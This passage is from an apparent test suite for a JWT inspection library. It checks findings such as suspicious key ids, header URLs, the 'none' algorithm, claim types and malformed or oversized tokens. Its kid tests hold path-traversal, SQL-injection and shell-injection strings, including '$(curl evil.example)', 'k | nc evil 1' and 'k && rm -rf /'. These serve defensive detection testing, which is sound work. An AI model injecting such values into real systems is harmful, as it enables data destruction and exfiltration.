  });

  describe('duplicate-key', () => {
    test('in the header and in the payload', () => {
      const inHeader = report(raw('{"alg":"ES256","kid":"a","kid":"b"}', claims()));
      const fh = inHeader.findings.find((f) => f.code === 'duplicate-key');
      assert.ok(fh);
      assert.equal(fh.severity, 'medium');
      assert.match(fh.location, /^header/);
      assert.match(fh.detail, /kid/);
      const inPayload = report(raw({ alg: 'ES256' }, `{"sub":"a","exp":${NOW + 60},"sub":"admin"}`));
      const fp = inPayload.findings.find((f) => f.code === 'duplicate-key');
      assert.ok(fp);
      assert.match(fp.location, /^payload/);
      assert.match(fp.detail, /sub/);
    });

    test('near miss: the same name at different levels, or in header and payload', () => {
      quiet(raw('{"alg":"ES256","x":{"x":1}}', `{"a":{"a":{"a":1}},"exp":${NOW + 60},"alg":"x"}`), 'duplicate-key');
    });

    test('the report agrees with itself about a duplicated member', () => {
      // the analysis and the header/payload shown must read the same value
      const dupAlg = report(raw('{"alg":"HS256","alg":"none"}', claims()));
      assert.equal(dupAlg.header.alg, dupAlg.algorithm.name, `header.alg shown as ${JSON.stringify(dupAlg.header.alg)}, analysed as ${JSON.stringify(dupAlg.algorithm.name)} (kind ${dupAlg.kind})`);
      const dupExp = report(raw({ alg: 'ES256' }, `{"exp":${NOW + 10},"exp":${NOW - 10}}`));
      assert.equal(dupExp.status.secondsLeft, dupExp.payload.exp - NOW, `payload.exp shown as ${dupExp.payload.exp}, status ${JSON.stringify(dupExp.status)}`);
    });
  });

  describe('large-token', () => {
    test('over 4096 bytes', () => {
      const f = fires(sizedToken(4097), 'large-token');
      assert.match(f.detail, /4097/);
      assert.equal(report(sizedToken(4097)).size.bytes, 4097);
    });
    test('near miss: exactly 4096 bytes', () => {
      const r = quiet(sizedToken(4096), 'large-token');
      assert.equal(r.size.bytes, 4096);
      assert.deepEqual(r.findings, []);
    });
  });

  describe('kid-suspicious', () => {
    for (const kid of ['../../../../dev/null', '..\\..\\keys\\k', '/dev/null', 'a\u0000b', "x' OR '1'='1", '"k"', 'k; DROP TABLE keys', 'k--', "1 union select 'key'", '$(curl evil.example)', '`id`', 'k | nc evil 1', 'k && rm -rf /', 'k > /tmp/x']) {
      test(JSON.stringify(kid), () => {
        const f = fires(es(claims(), { kid }), 'kid-suspicious');
        assert.equal(f.location, 'header.kid');
      });
    }

    test('near miss: ordinary key ids and RFC 7638 thumbprints', async () => {
      const thumbprints = [];
      for (const name of ['rsa', 'rsaOther', 'p256', 'p256Other', 'p384', 'p521', 'ed25519', 'ed25519Other']) {
        thumbprints.push(await jose.calculateJwkThumbprint(fixtures[name].publicJwk, 'sha256'));
      }
      const plain = thumbprints.filter((t) => !t.includes('--'));
      assert.ok(plain.length >= 6);
      for (const kid of ['rsa-key-1', 'key-2024_01.v2', '8f14e45f-ceea-467f-a0e6-1f5c1e1d2a3b', 'https://keys.example/k1', 'k1/v2', ...plain]) {
        quiet(es(claims(), { kid }), 'kid-suspicious');
      }
    });
  });

  describe('header-jwk and header-url', () => {
    test('jwk and x5c in the header', () => {
      assert.equal(fires(es(claims(), { jwk: fixtures.p256.publicJwk }), 'header-jwk').location, 'header.jwk');
      const certificate = fixtures.p256.certificate.split('\n').filter((l) => l && !l.startsWith('-----')).join('');
      assert.equal(fires(es(claims(), { x5c: [certificate] }), 'header-jwk').location, 'header.x5c');
    });
    test('jku and x5u in the header', () => {
      const f = fires(es(claims(), { jku: 'https://evil.example/jwks.json' }), 'header-url');
      assert.equal(f.location, 'header.jku');
      assert.match(f.detail, /evil\.example/);
      assert.equal(fires(es(claims(), { x5u: 'https://evil.example/cert.pem' }), 'header-url').location, 'header.x5u');
    });
    test('near miss: kid, x5t, and URLs in the payload', () => {
      const token = es(claims({ iss: 'https://issuer.example', jku: 'https://x.example', jwk: {} }), { kid: 'k', x5t: 'AAAA', 'x5t#S256': 'AAAA' });
      quiet(token, 'header-jwk');
      quiet(token, 'header-url');
    });
  });

  describe('crit and symmetric-alg', () => {
    test('crit', () => {
      assert.equal(fires(es(claims(), { crit: ['exp-ext'], 'exp-ext': 1 }), 'crit').location, 'header.crit');
      quiet(es(), 'crit');
    });
    test('symmetric-alg for HS256, HS384, HS512 only', () => {
      for (const alg of ALG_NAMES) {
        const token = craft({ alg }, claims());
        if (ALGS[alg].family === 'HMAC') assert.equal(fires(token, 'symmetric-alg').location, 'header.alg');
        else quiet(token, 'symmetric-alg');
      }
    });
  });

  describe('no-signature', () => {
    test('an empty signature with a non-none alg', () => {
      for (const alg of ['HS256', 'RS256', 'ES256', 'EdDSA']) {
        const f = fires(craft({ alg }, claims(), { signature: '' }), 'no-signature');
        assert.equal(f.location, 'signature');
      }
    });
    test('near miss: a signature; alg none with an empty signature is alg-none', () => {
      quiet(es(), 'no-signature');
      const r = quiet(craft({ alg: 'none' }, claims()), 'no-signature');
      assert.ok(codesOf(r).includes('alg-none'));
    });
  });

  describe('alg-none', () => {
    for (const alg of ['none', 'None', 'NONE', 'nOnE']) {
      test(`"${alg}", with an empty or a junk signature`, () => {
        for (const signature of ['', 'c2lnbmF0dXJl']) {
          const token = craft({ alg }, claims(), { signature });
          const f = fires(token, 'alg-none');
          assert.equal(f.location, 'header.alg');
          const r = report(token);
          assert.equal(r.kind, 'unsecured');
          assert.equal(r.algorithm.family, 'none');
        }
      });
    }
    test('near miss: "none " and "nonee" are unknown algorithms, not none', () => {
      for (const alg of ['none ', 'nonee', 'HS256']) {
        const r = quiet(craft({ alg }, claims(), { signWith: 'HS256' }), 'alg-none');
        assert.equal(r.kind, 'JWS');
      }
    });
  });

  describe('alg-missing and alg-unknown', () => {
    test('alg-missing', () => {
      assert.equal(fires(craft({ typ: 'JWT' }, claims(), { signWith: 'ES256' }), 'alg-missing').location, 'header.alg');
      assert.equal(fires(craft({}, claims(), { signWith: 'ES256' }), 'alg-missing').location, 'header.alg');
      quiet(es(), 'alg-missing');
    });

    test('ES256K and Ed448: registered algorithms jwtlens does not implement (Ed25519 it implements)', () => {
      for (const alg of ['ES256K', 'Ed448']) {
        const f = fires(craft({ alg }, claims(), { signWith: 'ES256' }), 'alg-unknown');
        assert.equal(f.location, 'header.alg');
        assert.match(f.detail, /registered/);
        assert.match(f.detail, /not implement/);
        assert.doesNotMatch(f.detail, /not a registered/);
      }
    });

    test('names that are not registered', () => {
      for (const alg of ['FOO', 'hs256', 'HS999', 'RSA-OAEP']) {
        const f = fires(craft({ alg }, claims(), { signWith: 'ES256' }), 'alg-unknown');
        assert.match(f.detail, /not (a )?registered/);
      }
      fires(craft({ alg: 256 }, claims(), { signWith: 'ES256' }), 'alg-unknown');
      fires(craft({ alg: null }, claims(), { signWith: 'ES256' }), 'alg-unknown');
    });

    test('near miss: the 14 algorithms (Ed25519 included)', () => {
      for (const alg of ALG_NAMES) quiet(craft({ alg }, claims()), 'alg-unknown');
    });
  });

  describe('time claims', () => {
    test('exp-missing', () => {
      assert.equal(fires(es({ sub: 's', iat: NOW }), 'exp-missing').location, 'payload.exp');
      quiet(es(), 'exp-missing');
    });

    test('expired, and at exp = now (verify refuses it too)', () => {
      assert.equal(fires(es({ exp: NOW - 1 }), 'expired').location, 'payload.exp');
      fires(es({ exp: NOW }), 'expired');
      quiet(es({ exp: NOW + 1 }), 'expired');
    });

    test('not-yet-valid, not at nbf = now (verify accepts it)', () => {
      assert.equal(fires(es({ exp: NOW + 100, nbf: NOW + 1 }), 'not-yet-valid').location, 'payload.nbf');
      quiet(es({ exp: NOW + 100, nbf: NOW }), 'not-yet-valid');
      assert.ok(m.verify(es({ exp: NOW + 100, nbf: NOW }), fixtures.p256.spki, at('ES256')));
    });

    test('iat-future beyond 60 seconds of skew', () => {
      assert.equal(fires(es({ exp: NOW + 100, iat: NOW + 61 }), 'iat-future').location, 'payload.iat');
      quiet(es({ exp: NOW + 100, iat: NOW + 60 }), 'iat-future');
      quiet(es({ exp: NOW + 100, iat: NOW - 100000 }), 'iat-future');
    });

    test('long-lifetime: exp - iat over 24 hours, or exp - now without iat', () => {
      assert.equal(fires(es({ iat: NOW, exp: NOW + 86401 }), 'long-lifetime').location, 'payload.exp');
      quiet(es({ iat: NOW, exp: NOW + 86400 }), 'long-lifetime');
      fires(es({ exp: NOW + 86401 }), 'long-lifetime');
      quiet(es({ exp: NOW + 86400 }), 'long-lifetime');
      // an old iat with a short remaining time is still a long lifetime
      fires(es({ iat: NOW - 30 * 86400, exp: NOW + 60 }), 'long-lifetime');
    });

    test('claim-type: wrong JSON types and millisecond timestamps', () => {
      const cases = [
        [{ exp: String(NOW + 3600) }, 'payload.exp'],
        [{ exp: NOW + 3600, nbf: true }, 'payload.nbf'],
        [{ exp: NOW + 3600, iat: [NOW] }, 'payload.iat'],
        [{ exp: NOW + 3600, aud: 42 }, 'payload.aud'],
        [{ exp: NOW + 3600, aud: ['api', 7] }, 'payload.aud'],
        [{ exp: NOW + 3600, iss: 1 }, 'payload.iss'],
        [{ exp: NOW + 3600, sub: { id: 1 } }, 'payload.sub'],
        [{ exp: (NOW + 3600) * 1000 }, 'payload.exp'],
        [{ exp: NOW + 3600, iat: NOW * 1000 }, 'payload.iat'],
        [{ exp: NOW + 3600, nbf: NOW * 1000 }, 'payload.nbf'],
      ];
      for (const [payload, location] of cases) {
        const r = report(es(payload));
        const f = r.findings.find((x) => x.code === 'claim-type' && x.location === location);
        assert.ok(f, `${JSON.stringify(payload)}: ${JSON.stringify(r.findings.map((x) => [x.code, x.location]))}`);
        assert.equal(f.severity, 'medium');
      }
      assert.match(report(es({ exp: (NOW + 3600) * 1000 })).findings.find((x) => x.code === 'claim-type').detail, /millisecond/i);
    });

    test('claim-type near misses: the right types in seconds', () => {
      quiet(es({ iss: 'https://i', sub: 's', aud: ['a', 'b'], exp: NOW + 3600, nbf: NOW - 1, iat: NOW - 1, jti: 'j' }), 'claim-type');
      quiet(es({ aud: 'a', exp: NOW + 0.5 }), 'claim-type');
      quiet(es({ exp: 4102444800, iat: NOW }), 'claim-type'); // the year 2100 is seconds, not milliseconds
    });
  });

  describe('malformed', () => {
    const [h, p, s] = es().split('.');

    test('not 3 or 5 segments: says how many', () => {
      for (const [input, n] of [['abc', 1], [`${h}.${p}`, 2], [`${h}.${p}.${s}.x`, 4], ['a.b.c.d.e.f', 6]]) {
        const f = fires(input, 'malformed');
        assert.equal(f.location, 'token');
        assert.match(f.detail, new RegExp(`\\b${n}\\b`));
      }
      fires('', 'malformed');
      fires(' \n\t ', 'malformed');
    });

    test('a segment that is not base64url: which segment, where and why', () => {
      for (const [token, location] of [[`${h.slice(0, 5)}!${h.slice(6)}.${p}.${s}`, 'header'], [`${h}.${p.slice(0, 9)}*${p.slice(10)}.${s}`, 'payload'], [`${h}.${p}.${s.slice(0, 3)}$${s.slice(4)}`, 'signature']]) {
        const f = fires(token, 'malformed');
        assert.equal(f.location, location);
        assert.match(f.detail, new RegExp(location));
        assert.match(f.detail, /[!*$]|offset|position/);
      }
    });

    test('a header or payload that is not a JSON object, or not UTF-8', () => {
      const notJson = fires(raw('{"alg":"ES256"', claims()), 'malformed');
      assert.equal(notJson.location, 'header');
      assert.match(notJson.detail, /JSON/);
      const array = fires(raw({ alg: 'ES256' }, '[1,2,3]'), 'malformed');
      assert.equal(array.location, 'payload');
      assert.match(array.detail, /object/);
      const notUtf8 = fires(`${h}.${b64u(Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]))}.${s}`, 'malformed');
      assert.equal(notUtf8.location, 'payload');
      assert.match(notUtf8.detail, /UTF-8/);
      const deep = fires(raw({ alg: 'ES256' }, `${'{"a":'.repeat(80)}1${'}'.repeat(80)}`), 'malformed');
      assert.equal(deep.location, 'payload');
      const lone = fires(raw({ alg: 'ES256' }, '{"a":"\\ud800"}'), 'malformed');
      assert.equal(lone.location, 'payload');
    });

    test('the readable parts are still reported', () => {
      const r = report(raw({ alg: 'HS256', kid: 'k' }, '[]'));
      assert.equal(r.kind, 'JWS');
      assert.deepEqual(r.header, { alg: 'HS256', kid: 'k' });
      assert.equal(r.payload, null);
      assert.ok(codesOf(r).includes('symmetric-alg'));
    });

    test('near miss: well-formed tokens', () => {
      for (const token of [es(), hs(), craft({ alg: 'none' }, claims()), jweDir]) quiet(token, 'malformed');
    });
  });

  test('every code of the table was produced by the tests above', () => {
    // a cheap guard against a code silently missing from this suite: one token per code
    const one = {
      malformed: 'x',
      'alg-none': craft({ alg: 'none' }, claims()),
      'alg-missing': craft({}, claims(), { signWith: 'ES256' }),
      'alg-unknown': craft({ alg: 'ES256K' }, claims(), { signWith: 'ES256' }),
      'exp-missing': es({ sub: 's' }),
      expired: es({ exp: NOW - 5 }),
      'not-yet-valid': es({ exp: NOW + 5, nbf: NOW + 3 }),
      'iat-future': es({ exp: NOW + 500, iat: NOW + 400 }),
      'claim-type': es({ exp: 'x' }),
      'long-lifetime': es({ exp: NOW + 90000 }),
      'sensitive-data': es(claims({ password: 'p' })),
      'weak-secret': JWT_IO,
      'header-jwk': es(claims(), { jwk: fixtures.ed25519.publicJwk }),
      'header-url': es(claims(), { x5u: 'https://x' }),
      'kid-suspicious': es(claims(), { kid: '../k' }),
      crit: es(claims(), { crit: ['b'], b: 1 }),
      'symmetric-alg': hs(),
      'no-signature': craft({ alg: 'ES256' }, claims(), { signature: '' }),
      'non-canonical': `${es()}==`, // the 86-character ES256 signature, padded
      'duplicate-key': raw('{"alg":"ES256","alg":"ES256"}', claims()),
      'large-token': sizedToken(5000),
      jwe: jweDir,
    };
    assert.deepEqual(Object.keys(one).sort(), Object.keys(TABLE).sort());
    for (const [code, token] of Object.entries(one)) fires(token, code);
  });
});

// ---------------------------------------------------------------------------------------------

describe('never throws for a string', () => {
  test('huge inputs: exactly 1 MiB is read, more gives only malformed', () => {
    const token = sizedToken(MiB);
    const t0 = performance.now();
    const r = report(token);
    const ms = performance.now() - t0;
    assert.equal(r.kind, 'JWS');
    assert.equal(r.size.bytes, MiB);
    assert.ok(!codesOf(r).includes('malformed'), JSON.stringify(r.findings));
    assert.ok(codesOf(r).includes('large-token'));
    assert.equal(r.payload.sub, 'user-42');
    assert.ok(ms < 10000, `${ms} ms for a 1 MiB token`);

    // whitespace and Bearer around a 1 MiB token do not count
    const pasted = report(`  Bearer  ${token}\n\n`);
    assert.equal(pasted.size.bytes, MiB);
    assert.equal(pasted.kind, 'JWS');
    const padded = report(`${' '.repeat(2 * MiB)}${es()}${'\n'.repeat(MiB)}`);
    assert.equal(padded.kind, 'JWS');
    assert.deepEqual(padded.findings, []);

    // one byte more: only `malformed`, nothing else read
    for (const [input, bytes] of [
      [sizedToken(MiB + 1), MiB + 1],
      [`Bearer ${sizedToken(MiB + 1)}`, MiB + 1],
      ['é'.repeat(600000), 1200000], // 600000 UTF-16 units, 1.2 MB of UTF-8
      [`${'🚀'.repeat(262144)}x`, MiB + 1], // 524289 units, 4 bytes per emoji
      ['\ud800'.repeat(400000), 1200000], // lone surrogates, 3 bytes each as U+FFFD
      [`${'a.'.repeat(MiB)}a`, 2 * MiB + 1],
      [crypto.randomBytes(3 * MiB).toString('base64url'), 4 * MiB],
    ]) {
      const big = report(input);
      assert.equal(big.kind, 'invalid');
      assert.deepEqual(codesOf(big), ['malformed']);
      assert.equal(big.findings[0].location, 'token');
      assert.match(big.findings[0].detail, /1 MiB|1048576/);
      assert.equal(big.size.bytes, bytes);
      assert.equal(big.header, null);
      assert.equal(big.payload, null);
      assert.deepEqual(big.claims, []);
      assert.deepEqual(big.segments, []);
      assert.equal(big.algorithm, null);
      assert.deepEqual(big.status, { state: 'unknown' });
    }
  });

  test('Bearer variants and lone surrogates', () => {
    const token = hs();
    const inputs = [
      'Bearer', 'Bearer ', 'Bearer  ', 'bearer', `Bearer ${token} extra`, `Bearer Bearer ${token}`, `Bearer\u00a0${token}`,
      `Bearer\n${token}`, `\ufeff${token}`, `${token}\u0000`, `\u2028${token}\u2029`, `Bearer ${'.'.repeat(4)}`,
      '\ud800', '\udc00', '\ud800.\udc00.\udbff', `${token.slice(0, 10)}\ud800${token.slice(10)}`, `${token}\udfff`,
      `${b64u('{"alg":"HS256","kid":"')}\ud800.${b64u('{}')}.`, '...', '....', '.', '\u0000.\u0000.\u0000',
    ];
    for (const input of inputs) report(input);
  });

  test('thousands of random and mutated strings (seeded)', () => {
    const random = prng(20240401);
    const int = (n) => Math.floor(random() * n);
    const pick = (xs) => xs[int(xs.length)];
    const POOL = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_', '.', '.', '=', '+', '/', ' ', '\n', '\t', '\r', '\u0000', 'é', '€', '🚀', '\ud800', '\udfff', '\udbff', '\uffff', '\ufeff', '\u2028', '"', '\\', '{', '}', '[', ':', ','];
    const randomText = (n) => Array.from({ length: n }, () => pick(POOL)).join('');
    const FRAGMENTS = [
      '{', '}', '{}', '[]', 'null', '"x"', '1e999', '-0', '{"alg":"HS256"}', '{"alg":"none"}', '{"alg":"NONE","typ":"JWT"}', '{"alg":',
      '{"alg":"ES256K"}', '{"alg":"RSA-OAEP","enc":"A256GCM"}', '{"alg":"HS256","alg":"RS256"}', '{"exp":"x","aud":1,"iat":1e400}',
      '{"exp":1e308,"nbf":-1e308,"iat":-0}', `{"exp":${NOW},"nbf":${NOW},"iat":${NOW}}`, '{"password":"p","card":"4111111111111111"}',
      '{"a":"\\ud800"}', '{"\\u0000":"\\u0000"}', `${'['.repeat(70)}${']'.repeat(70)}`, `${'{"a":'.repeat(63)}1${'}'.repeat(63)}`,
      '{"jwk":{},"x5c":[],"jku":"h","x5u":"h","crit":["x"],"kid":"../x"}', '\u00ff\u00fe', '{"a":1,}', '{"a" 1}', '{"a":1}x', ' {"a":1} ',
    ];
    const fragment = () => (random() < 0.7 ? pick(FRAGMENTS) : randomText(int(40)));
    const asSegment = (text) => (random() < 0.9 ? b64u(text) : Buffer.from(text).toString('base64'));
    const bases = [hs(), hs(claims(), { kid: 'k' }), es(), es(claims({ password: 'x' }), { jku: 'https://x' }), craft({ alg: 'RS256' }, claims()), craft({ alg: 'EdDSA' }, claims()), craft({ alg: 'none' }, claims()), JWT_IO, jweDir, jweRsa];
    const mutate = (s) => {
      switch (int(9)) {
        case 0: { // replace characters
          const a = [...s];
          for (let k = int(4) + 1; k > 0 && a.length; k--) a[int(a.length)] = pick(POOL);
          return a.join('');
        }
        case 1: { // insert
          const at_ = int(s.length + 1);
          return s.slice(0, at_) + randomText(int(6) + 1) + s.slice(at_);
        }
        case 2: { // delete a slice
          const a = int(s.length + 1);
          return s.slice(0, a) + s.slice(a + int(20) + 1);
        }
        case 3: { // segment surgery
          const seg = s.split('.');
          const op = int(4);
          if (op === 0) seg.splice(int(seg.length), 1);
          else if (op === 1) seg.splice(int(seg.length), 0, pick(seg));
          else if (op === 2) seg.reverse();
          else seg[int(seg.length)] = asSegment(fragment());
          return seg.join('.');
        }
        case 4: // truncate
          return s.slice(0, int(s.length + 1));
        case 5: // wrap
          return pick(['Bearer ', 'bearer  ', ' ', '\n', 'Bearer\t', '']) + s + pick(['', ' ', '\r\n', '\u0000', '.']);
        case 6: // a fresh token from fragments
          return `${asSegment(fragment())}.${asSegment(fragment())}.${pick(['', 'AAAA', b64u(crypto.randomBytes(32)), randomText(int(50))])}`;
        case 7: // five segments
          return `${asSegment(pick(['{"alg":"dir","enc":"A256GCM"}', fragment()]))}.${randomText(int(10))}.${randomText(int(16))}.${randomText(int(60))}.${randomText(int(22))}`;
        default: // pure noise
          return randomText(int(200));
      }
    };
    const seenKinds = new Set();
    const seenCodes = new Set();
    const N = 3000;
    for (let i = 0; i < N; i++) {
      let s = pick(bases);
      for (let k = int(3) + 1; k > 0; k--) s = mutate(s);
      const options = { now: random() < 0.9 ? NOW : pick([0, -1e12, 1e15, Number.MAX_VALUE, -Number.MAX_VALUE, NOW + 0.5]) };
      if (random() < 0.1) options.secret = random() < 0.5 ? randomText(int(40)) : crypto.randomBytes(int(70));
      let r;
      try {
        r = m.inspect(s, options);
      } catch (e) {
        assert.fail(`inspect threw for input #${i} ${JSON.stringify(s.slice(0, 200))}: ${e && e.name}: ${e && e.message}`);
      }
      checkReport(r, `input #${i} ${JSON.stringify(s.slice(0, 80))}`);
      seenKinds.add(r.kind);
      for (const c of codesOf(r)) seenCodes.add(c);
      if (i % 10 === 0) assert.deepEqual(m.inspect(s, options), r, `input #${i}: the same input gives the same report`);
    }
    // the inputs reached every kind and most findings
    assert.deepEqual([...seenKinds].sort(), [...KINDS].sort());
    assert.ok(seenCodes.size >= 18, `only ${[...seenCodes].join(', ')}`);
    // and the instance still works
    assert.deepEqual(codesOf(report(es())), []);
  });
});

// ---------------------------------------------------------------------------------------------

test('timing report', () => {
  const secret = s.generateSecret('HS256');
  const token = s.sign({ sub: 'user-42', iss: 'https://issuer.example', aud: 'api', scope: 'read write', exp: NOW + 3600 }, secret, { alg: 'HS256', issuedAt: NOW });
  const r = report(token);
  assert.equal('weakSecret' in r, false, 'a strong secret: the whole list is tried');
  const rounds = [];
  for (let i = 0; i < 11; i++) {
    const t0 = performance.now();
    for (let j = 0; j < 50; j++) m.inspect(token, { now: NOW });
    rounds.push((performance.now() - t0) / 50);
  }
  rounds.sort((a, b) => a - b);
  console.log(`timing: inspect() of a ${token.length}-byte HS256 token with a strong secret (full weak-secret scan) in Node ${process.version}: median ${rounds[5].toFixed(2)} ms per call (11 rounds of 50 calls; fastest round ${rounds[0].toFixed(2)} ms, slowest ${rounds[10].toFixed(2)} ms)`);
});

describe('bounded work and output on hostile payloads (issue 14 §1)', () => {
  // The audit's inputs: each took seconds and one trapped the module (the allocator aborting at
  // 4 GiB), another threw "Cannot create a string longer than ...". Deterministic checks only: no
  // throw, at most 20 listed sensitive-data findings plus one summary, cut locations and details,
  // and a report JSON bounded by 24 bytes per token byte + 64 KiB (docs/API.md).
  const unsigned = (payload) => `${b64u(JSON.stringify({ alg: 'ES256' }))}.${b64u(payload)}.${b64u(Buffer.alloc(64, 7))}`;
  const cases = [
    ['a 385,000-char name over 192,000 zeros', `{"${'a'.repeat(385_000)}":[${Array(192_000).fill(0).join(',')}]}`],
    ['a 700,000-char name over 1,300 card numbers', `{"${'a'.repeat(700_000)}":[${Array(1_300).fill('4222222222222').join(',')}]}`],
    ['a 100,000-char name over 4,000 card numbers', `{"${'a'.repeat(100_000)}":[${Array(4_000).fill('4222222222222').join(',')}]}`],
    ['a member name of 20,000 suffix words', `{"password${'_val'.repeat(20_000)}":"x"}`],
    ['3,000 sensitive members', `{${Array.from({ length: 3_000 }, (_, i) => `"pw${i}_password":"x"`).join(',')}}`],
  ];
  for (const [label, payload] of cases) {
    test(label, () => {
      const token = unsigned(payload);
      assert.ok(token.length <= 1_048_576, `${label}: ${token.length} bytes`);
      const report = m.inspect(token, { now: NOW });
      assert.equal(report.kind, 'JWS');
      assert.ok(report.payload !== null);
      const sensitive = report.findings.filter((f) => f.code === 'sensitive-data');
      assert.ok(sensitive.length <= 21, `${sensitive.length} sensitive-data findings`);
      for (const f of report.findings) {
        assert.ok([...f.detail].length <= 1000, `${f.code}: detail of ${f.detail.length}`);
        if (f.location !== undefined) assert.ok([...f.location].length <= 160, `${f.code}: location of ${f.location.length}`);
      }
      assert.ok(JSON.stringify(report).length <= 24 * token.length + 65_536);
    });
  }

  test('past the cap, one summary finding says how many more there were', () => {
    const report = m.inspect(unsigned(cases[2][1]), { now: NOW });
    const sensitive = report.findings.filter((f) => f.code === 'sensitive-data');
    assert.equal(sensitive.length, 21);
    assert.equal(sensitive.filter((f) => f.location === undefined).length, 1);
    assert.match(sensitive.find((f) => f.location === undefined).title, /^3980 more/);
    for (const f of sensitive.filter((f) => f.location !== undefined)) assert.match(f.location, /^payload\.a{10}.*…\[\d+\]$/);
  });

  test('after them the module still verifies a 240 KB token', () => {
    for (const [, payload] of cases) m.inspect(unsigned(payload), { now: NOW });
    const big = s.sign({ sub: 'user-42', exp: NOW + 60, blob: 'x'.repeat(180_000) }, hmacSecret, { alg: 'HS256' });
    assert.ok(big.length > 240_000);
    assert.equal(m.verify(big, hmacSecret, at('HS256')).payload.sub, 'user-42');
  });
});
